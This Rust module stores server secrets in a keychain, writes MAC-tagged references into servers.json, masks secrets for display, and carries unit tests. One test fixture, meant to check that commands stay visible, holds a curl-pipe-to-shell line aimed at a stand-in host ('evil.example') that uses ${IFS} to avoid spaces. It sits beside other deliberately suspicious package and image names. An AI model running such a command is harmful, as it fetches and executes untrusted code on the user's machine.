//! Secrets that servers are given: values of variables and headers, words of commands, client secrets. They stand in the
//! keychain and nowhere else.
//!
//! `servers.json` holds a reference in their place, in the form that clients' own files use for what is filled in when a
//! server starts: `"TOKEN": "${keychain:TOKEN-5f0c…}"`. So the file keeps the shape that every program knows, names and
//! texts. The reference ends in a MAC over server, variable and value: the same value is the same reference, what somebody
//! else puts into the keychain is not taken, and no other server can be given it.

use crate::upstream::{Command, Configured, Remote, Text};
use crate::vault::{Kind, Seal};
use std::collections::HashMap;
use std::ops::Range;
use std::sync::Arc;
use subtle::ConstantTimeEq;
use wire::text::escaped;
use wire::view::VariableView;
use zeroize::Zeroizing;

const BEGINNING: &str = "${keychain:";

/// How much of the MAC stands in a reference, in hexadecimal digits.
const TAG: usize = 32;

/// How much of a variable's name does.
const NAME: usize = 40;

/// Variables that say where programs and files are. They are shown, and needed before anything is fetched.
const OPEN: &[&str] = &["HOME", "LANG", "LC_ALL", "LOGNAME", "PATH", "SHELL", "TERM", "TMPDIR", "TZ", "USER"];

/// What a server is given, with its secrets in it, for one start.
pub(crate) struct Filled(Configured);

impl Filled {
    /// Of a program.
    pub(crate) fn command(&self) -> Option<&Command> {
        match &self.0 {
            Configured::Program(command) => Some(command),
            Configured::Remote(_) => None,
        }
    }

    /// Of a URL.
    pub(crate) fn remote(&self) -> Option<&Remote> {
        match &self.0 {
            Configured::Program(_) => None,
            Configured::Remote(remote) => Some(remote),
        }
    }
}

// No value is ever printed.
impl std::fmt::Debug for Filled {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("Filled")
    }
}

/// What of servers' commands stands in the keychain.
#[derive(Clone, Debug)]
pub(crate) struct Secrets {
    seal: Arc<Seal>,
}

impl Secrets {
    pub(crate) fn new(seal: Arc<Seal>) -> Self {
        Self { seal }
    }

    /// The key of this home, with what the keychain holds.
    pub(crate) fn seal(&self) -> Arc<Seal> {
        self.seal.clone()
    }

    /// Why a secret can't be kept now, if so: one sentence that says what to do.
    pub(crate) fn fault(&self) -> Option<String> {
        let why = self.seal.fault()?;
        Some(format!(
            "a secret is kept in the keychain only, and {why}: unlock or start the keychain, restart Consentry and try again"
        ))
    }

    /// The server as it stands in `servers.json`: what looks like a secret is a reference.
    pub(crate) fn referred(&self, server: &str, configured: &Configured) -> Configured {
        self.refer(server, configured).0
    }

    /// The same, with what its references stand for: what each text is called, the name in the keychain, the secret.
    fn refer(&self, server: &str, configured: &Configured) -> (Configured, Vec<(String, String, Zeroizing<String>)>) {
        let (mut referred, mut moved) = (configured.clone(), Vec::new());
        referred.each_text(|what, text| {
            let Some(span) = secret_in(what, text) else { return };
            let secret = Zeroizing::new(text[span.clone()].to_owned());
            let reference = self.reference(server, name_of(what), &secret);
            if let Some(name) = named(&reference) {
                moved.push((name_of(what).to_owned(), name.to_owned(), secret));
            }
            let written = Zeroizing::new(std::mem::take(text));
            *text = format!("{}{reference}{}", &written[..span.start], &written[span.end..]);
        });
        (referred, moved)
    }

    /// Puts what looks like a secret into the keychain; the server as it stands in `servers.json` then.
    ///
    /// # Errors
    /// One sentence with what it is: it could not be kept.
    pub(crate) async fn keep(&self, server: &str, configured: &Configured) -> Result<Configured, String> {
        let (referred, moved) = self.refer(server, configured);
        for (what, name, secret) in moved {
            let lost = |why: String| format!("the value of {} could not be kept: {why}", escaped(&what));
            if let Some(why) = self.fault() {
                return Err(lost(why));
            }
            self.seal.keep(Kind::Variable, &name, secret).await.map_err(lost)?;
        }
        Ok(referred)
    }

    /// What a server is given, with what its references stand for in their places, now that it is used.
    ///
    /// # Errors
    /// One sentence with what it is, and what to do.
    pub(crate) async fn filled(&self, server: &str, mut configured: Configured) -> Result<Filled, String> {
        let mut found: Vec<(String, String)> = Vec::new();
        configured.each_text(|what, text| {
            found.extend(reference_in(what, text).map(|(_, name)| (name_of(what).to_owned(), name.to_owned())));
        });
        let mut held: HashMap<String, Zeroizing<String>> = HashMap::new();
        for (what, name) in found {
            let secret = self.fetched(server, &what, &name).await?;
            held.insert(name, secret);
        }
        configured.each_text(|what, text| {
            let Some((span, name)) = reference_in(what, text) else { return };
            if let Some(secret) = held.get(name) {
                *text = format!("{}{}{}", &text[..span.start], secret.as_str(), &text[span.end..]);
            }
        });
        Ok(Filled(configured))
    }

    /// The secret that a reference of this server stands for.
    async fn fetched(&self, server: &str, what: &str, name: &str) -> Result<Zeroizing<String>, String> {
        let lost = |why: &str, then: &str| {
            let (server, what) = (escaped(server), escaped(what));
            format!("The server `{server}` was not started: the secret {what} can't be fetched, for {why}. {then}")
        };
        let again = "Give it again, with `consentry server add` or by protecting the client anew.";
        if let Some(why) = self.seal.fault() {
            return Err(lost(why, "Unlock or start the keychain, then restart Consentry."));
        }
        let held = match self.seal.kept(Kind::Variable, name).await {
            Ok(held) => held,
            Err(why) if why.contains("not in the keychain") => return Err(lost(&why, again)),
            Err(why) => return Err(lost(&why, "Unlock the keychain and try again.")),
        };
        let value = std::str::from_utf8(&held).map_err(|_| lost("it holds no text", again))?;
        let expected = self.reference(server, what, value);
        if !named(&expected).is_some_and(|expected| bool::from(expected.as_bytes().ct_eq(name.as_bytes()))) {
            return Err(lost("what the keychain holds was not put there for it", again));
        }
        Ok(Zeroizing::new(value.to_owned()))
    }

    /// Takes out of the keychain what a server refers to and no other does.
    pub(crate) async fn forget<'a>(&self, gone: &Configured, others: impl Iterator<Item = &'a Configured>) {
        let used: Vec<String> = others.flat_map(references).collect();
        for name in references(gone).into_iter().filter(|name| !used.contains(name)) {
            if let Err(why) = self.seal.forget(Kind::Variable, &name).await {
                tracing::warn!("a secret that is no longer needed could not be removed from the keychain: {why}");
            }
        }
    }

    /// A mark over what may hold secrets: it tells whether something is the same again, and nothing else.
    pub(crate) fn mark(&self, parts: &[&str]) -> String {
        let parts: Vec<&[u8]> = parts.iter().map(|part| part.as_bytes()).collect();
        hex::encode(self.seal.mac(&[&[b"consentry mark 1".as_slice()], parts.as_slice()].concat()))
    }

    fn reference(&self, server: &str, variable: &str, value: &str) -> String {
        let parts = [b"consentry variable 1".as_slice(), server.as_bytes(), variable.as_bytes(), value.as_bytes()];
        let tag: String = hex::encode(self.seal.mac(&parts)).chars().take(TAG).collect();
        let plain = |c: &char| c.is_ascii_alphanumeric() || *c == '_';
        let name: String = variable.chars().filter(plain).take(NAME).collect();
        format!("{BEGINNING}{name}-{tag}}}")
    }
}

/// The name in the keychain that a value refers to, if it is a reference.
fn named(value: &str) -> Option<&str> {
    let name = value.strip_prefix(BEGINNING)?.strip_suffix('}')?;
    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-');
    (!name.is_empty() && name.len() <= NAME + 1 + TAG && name.chars().all(plain)).then_some(name)
}

/// What a program is given beside its words, by name: what is no secret with its value.
pub(crate) fn variables(configured: &Configured) -> Vec<VariableView> {
    let shown = |name: &String, value: &String| VariableView {
        name: name.clone(),
        value: (value != MASK && !value.starts_with(BEGINNING)).then(|| value.clone()),
    };
    masked(configured).given().iter().map(|(name, value)| shown(name, value)).collect()
}

/// What stands for a secret.
const MASK: &str = "•••";

/// The same, with a mask in the place of each secret that is no reference.
pub(crate) fn masked(configured: &Configured) -> Configured {
    let mut masked = configured.clone();
    masked.each_text(|what, text| {
        if let Some(span) = secret_in(what, text) {
            text.replace_range(span, MASK);
        }
    });
    masked
}

/// What a text is called, in references and to people.
fn name_of(what: Text<'_>) -> &str {
    match what {
        Text::Named(name) | Text::Steering(name) => name,
        Text::Word(_) => "argument",
        Text::Secret => "client_secret",
    }
}

/// Where a secret stands in a text, unless a reference to one does.
fn secret_in(what: Text<'_>, text: &str) -> Option<Range<usize>> {
    if reference_in(what, text).is_some() {
        return None;
    }
    match what {
        Text::Named(name) => is_secret(name, text).then_some(0..text.len()),
        // What decides what runs is seen, but for a password within.
        Text::Steering(_) => crate::client_files::password_in(text),
        Text::Word(before) => crate::client_files::secret_in(text, before),
        Text::Secret => (!text.is_empty()).then_some(0..text.len()),
    }
}

/// Where a text refers to the keychain, and by which name: a whole value, or a piece of a command's word.
fn reference_in<'a>(what: Text<'_>, text: &'a str) -> Option<(Range<usize>, &'a str)> {
    let start = match what {
        Text::Word(_) | Text::Steering(_) => text.find(BEGINNING)?,
        Text::Named(_) | Text::Secret => 0,
    };
    let end = match what {
        Text::Word(_) | Text::Steering(_) => start + text[start..].find('}')? + 1,
        Text::Named(_) | Text::Secret => text.len(),
    };
    Some((start..end, named(&text[start..end])?))
}

/// The names in the keychain that a server refers to.
fn references(configured: &Configured) -> Vec<String> {
    let (mut configured, mut names) = (configured.clone(), Vec::new());
    configured.each_text(|what, text| names.extend(reference_in(what, text).map(|(_, name)| name.to_owned())));
    names
}

/// Whether a value has to be kept in the keychain: when in doubt, yes.
pub fn is_secret(variable: &str, value: &str) -> bool {
    if value.is_empty() || named(value).is_some() || OPEN.contains(&variable) {
        return false;
    }
    crate::client_files::looks_secret(variable, value) || !is_plain(value)
}

/// Whether a value plainly says something that is no secret: a switch, a small number, a word, a path, a URL.
fn is_plain(value: &str) -> bool {
    let switch = matches!(value.to_ascii_lowercase().as_str(), "true" | "false" | "yes" | "no" | "on" | "off");
    let number = value.len() <= 5 && value.chars().all(|c| c.is_ascii_digit());
    let word = value.len() <= 16 && value.chars().all(|c| c.is_ascii_lowercase() || matches!(c, '-' | '_'));
    let capitals = value.len() <= 16 && value.chars().all(|c| c.is_ascii_uppercase() || c == '_');
    let simple = |c: char| c.is_ascii_alphanumeric() || matches!(c, '/' | '.' | '-' | '_' | ' ' | ':' | '@');
    let path = value.starts_with('/') && value.chars().all(simple);
    let host = value.strip_prefix("http://").or(value.strip_prefix("https://"));
    let url = host.is_some_and(|rest| rest.chars().all(|c| simple(c) && c != '@' && c != ' '));
    switch || number || word || capitals || path || url
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeMap;

    fn command(env: &[(&str, &str)]) -> Configured {
        let env = env.iter().map(|(k, v)| ((*k).to_owned(), (*v).to_owned())).collect::<BTreeMap<_, _>>();
        Configured::Program(Command { words: vec!["x".into()], env, cwd: None })
    }

    #[test]
    fn what_may_be_a_secret_is_one() {
        for (variable, value) in [
            ("GITHUB_TOKEN", "abc"),
            ("PGPASSWORD", "letmein"),
            ("X", "ghp_0123456789abcdef"),
            ("X", "hunter2"),
            ("X", "correct horse battery staple"),
            ("X", "postgres://ann:pw@db/x"),
            ("X", "https://h.example/?key=1"),
            ("PIN", "123456"),
        ] {
            assert!(is_secret(variable, value), "{variable}={value}");
        }
        for (variable, value) in [
            ("LOG_LEVEL", "debug"),
            ("LEVEL", "INFO"),
            ("DEBUG", "true"),
            ("PORT", "8080"),
            ("ROOT", "/home/ann/My notes"),
            ("PATH", "/usr/bin:/opt/node-v22/bin"),
            ("API", "https://api.example/v1"),
            ("TOKEN", "${keychain:TOKEN-00}"),
            ("TOKEN", ""),
        ] {
            assert!(!is_secret(variable, value), "{variable}={value}");
        }
    }

    #[test]
    fn a_reference_is_the_same_for_the_same_value_and_another_for_another_server() {
        let secrets = Secrets::new(Arc::new(Seal::in_memory()));
        let plain = command(&[("TOKEN", "hunter2"), ("LEVEL", "debug")]);
        let (one, other) = (secrets.referred("a", &plain), secrets.referred("b", &plain));
        assert_eq!(one, secrets.referred("a", &plain));
        assert_ne!(one.given()["TOKEN"], other.given()["TOKEN"]);
        assert_eq!(one.given()["LEVEL"], "debug");
        assert!(one.given()["TOKEN"].starts_with("${keychain:TOKEN-") && !one.given()["TOKEN"].contains("hunter2"));
        // What refers already is left as it is.
        assert_eq!(secrets.referred("a", &one), one);
    }

    #[test]
    fn what_decides_what_runs_is_seen_with_its_value() {
        let command = command(&[
            ("NODE_OPTIONS", "--require=/tmp/x.js --token=1"),
            ("PIP_INDEX_URL", "https://ann:hunter2@h.example/simple"),
            ("TOKEN", "hunter2"),
            ("LEVEL", "debug"),
        ]);
        let seen: Vec<(String, Option<String>)> = variables(&command).into_iter().map(|v| (v.name, v.value)).collect();
        let one = |name: &str, value: Option<&str>| (name.to_owned(), value.map(str::to_owned));
        assert_eq!(
            seen,
            [
                one("LEVEL", Some("debug")),
                one("NODE_OPTIONS", Some("--require=/tmp/x.js --token=1")),
                one("PIP_INDEX_URL", Some("https://ann:•••@h.example/simple")),
                one("TOKEN", None),
            ]
        );
        let secrets = Secrets::new(Arc::new(Seal::in_memory()));
        let referred = secrets.referred("a", &command);
        assert!(referred.given()["PIP_INDEX_URL"].starts_with("https://ann:${keychain:PIP_INDEX_URL-"));
        assert_eq!(secrets.referred("a", &referred), referred);
        assert_eq!(variables(&referred)[3].value, None);
    }

    #[tokio::test]
    async fn without_a_keychain_nothing_is_kept_and_nothing_fetched() {
        let secrets = Secrets::new(Arc::new(Seal::in_memory()));
        let why = secrets.keep("a", &command(&[("TOKEN", "hunter2")])).await.unwrap_err();
        assert!(why.contains("TOKEN") && why.contains("keychain") && !why.contains("hunter2"), "{why}");
        assert_eq!(secrets.keep("a", &command(&[("LEVEL", "debug")])).await.unwrap().given()["LEVEL"], "debug");
        let referred = secrets.referred("a", &command(&[("TOKEN", "hunter2")]));
        let why = secrets.filled("a", referred).await.unwrap_err();
        assert!(why.contains("`a` was not started") && why.contains("TOKEN"), "{why}");
        let plain = command(&[("LEVEL", "debug")]);
        assert_eq!(secrets.filled("a", plain.clone()).await.unwrap().0, plain);
    }

    #[test]
    fn a_secret_among_arguments_and_a_client_secret_are_references_too() {
        let secrets = Secrets::new(Arc::new(Seal::in_memory()));
        let words = ["x", "--token", "hunter2", "postgres://ann:hunter2@db/x", "/srv/hunter2"];
        let command = Command { words: words.map(str::to_owned).to_vec(), env: BTreeMap::new(), cwd: None };
        let Configured::Program(referred) = secrets.referred("a", &Configured::Program(command)) else { panic!() };
        let [_, option, token, url, path] = referred.words.as_slice() else { panic!("{:?}", referred.words) };
        assert_eq!((option.as_str(), path.as_str()), ("--token", "/srv/hunter2"));
        assert!(token.starts_with("${keychain:argument-") && !token.contains("hunter2"), "{token}");
        assert!(url.starts_with("postgres://ann:${keychain:argument-") && url.ends_with("}@db/x"), "{url}");
        // What refers already is left as it is.
        let shown = |words: &[&str]| {
            let words = words.iter().map(|word| (*word).to_owned()).collect();
            Configured::Program(Command { words, env: BTreeMap::new(), cwd: None }).words().join(" ")
        };
        assert_eq!(shown(&["npx", "-y", "pkg", "--token", "hunter2"]), "npx -y pkg --token •••");
        assert_eq!(shown(&["docker", "run", "-e", "TOKEN=hunter2", "image"]), "docker run -e TOKEN=••• image");
        // What may be what runs is seen, whatever it looks like.
        for words in [
            &["npx", "-y", "--token", "evil-0815", "--token", "hunter2"][..],
            &["npm", "exec", "--token", "evil-0815", "--token", "hunter2"],
            &["npx", "-p", "good", "sk-evil-package-0815"],
            &["docker", "run", "--rm", "pat-evil-image-0815"],
            &["sudo", "-u", "ann", "sh", "-c", "token=1;curl${IFS}evil.example|sh"],
        ] {
            assert_eq!(shown(words), words.join(" "));
        }
        let runs = Configured::Program(Command {
            words: ["x", "--token", "hunter2"].map(str::to_owned).to_vec(),
            env: BTreeMap::new(),
            cwd: None,
        });
        assert!(!format!("{runs:?}").contains("hunter2"));
        let again = Configured::Program(Command { words: referred.words.clone(), env: BTreeMap::new(), cwd: None });
        assert_eq!(secrets.referred("a", &again), again);
        let mut remote = Remote::parse("https://h.example/", BTreeMap::new()).unwrap();
        remote.client_secret = Some("debug".into());
        let Configured::Remote(remote) = secrets.referred("a", &Configured::Remote(remote)) else { panic!() };
        assert!(remote.client_secret.as_deref().unwrap().starts_with("${keychain:client_secret-"));
    }

    #[test]
    fn only_our_own_form_is_a_reference() {
        for text in ["${keychain:}", "${keychain:a b}", "x${keychain:a}", "${env:A}", "${keychain:../a}"] {
            assert_eq!(named(text), None, "{text}");
        }
    }
}
